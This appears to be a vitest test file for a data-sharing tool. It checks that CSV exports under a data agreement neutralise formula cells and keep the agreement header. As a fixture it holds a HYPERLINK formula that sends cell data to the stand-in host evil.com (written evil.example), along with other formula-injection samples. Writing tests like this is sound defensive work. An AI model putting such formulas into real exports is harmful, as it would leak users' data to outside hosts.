// Issue 7 §4 "CSV exports carry live formulas", for the agreement download (the provider's file
// with the agreement header line): formula cells are neutralised; §8: the type is detected.
import { readCsvText, restoreFormula } from '@steward/core/sdc/io/index';
import { cellText } from '@steward/core/sdc/dataset';
import { describe, expect, it } from 'vitest';
import { packageAgreementFile } from './agreement-file';

const meta = {
  agreement: 'DSA-2026-0001',
  agreementId: '00000000-0000-4000-8000-000000000001',
  provider: 'ORGA',
  expiresOn: '2026-03-31',
  conditions: ['suppress-below-n:5', 'no-onward-sharing', 'Aggregated outputs only'],
};
const EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';

describe('CSV exports carry live formulas: the agreement download', () => {
  it('keeps the agreement line, neutralises formula cells and keeps the rest of the data', async () => {
    const csv = `district;note;count\nPemba;"${EVIL.replaceAll('"', '""')}";3\nMetuge;@cmd;-4\nMontepuez;-2+3;1.50\n`;
    const out = await packageAgreementFile({ name: 'extract.csv' }, new TextEncoder().encode(csv), meta);
    const text = new TextDecoder().decode(out.bytes);
    expect(out.name).toBe('DSA-2026-0001-extract.csv');
    expect(out.contentType).toBe('text/csv; charset=utf-8');
    const [first, ...rest] = text.split('\r\n');
    expect(first).toMatch(/^# Steward agreement DSA-2026-0001 \(id [0-9a-f-]+\); expires 2026-03-31/);
    // The conditions in words, from the keys the agreement stores.
    expect(first).toMatch(
      /; conditions: Suppress cells with a count below 5; No onward sharing; Aggregated outputs only$/,
    );
    const back = readCsvText(rest.join('\r\n'));
    if (!back.ok) throw new Error(back.error.message);
    const col = (name: string) => {
      const c = back.dataset.columns.find((x) => x.name === name)!;
      return Array.from({ length: back.dataset.rowCount }, (_, r) => cellText(c, r));
    };
    expect(col('note')).toEqual([`'${EVIL}`, "'@cmd", "'-2+3"]);
    expect(col('note').map((v) => restoreFormula(v!))).toEqual([EVIL, '@cmd', '-2+3']);
    // Numbers stay numbers (written in their shortest form: 1.50 → 1.5).
    expect(col('count')).toEqual(['3', '-4', '1.5']);
    expect(text).toContain(';'); // the provider's delimiter is kept
  });
  it('a file of another type is given as stored, with the detected type', async () => {
    const pdf = new TextEncoder().encode('%PDF-1.7\n');
    const out = await packageAgreementFile({ name: 'r.pdf' }, pdf, meta);
    expect(out.bytes).toEqual(pdf);
    expect(out.contentType).toBe('application/pdf');
  });
});
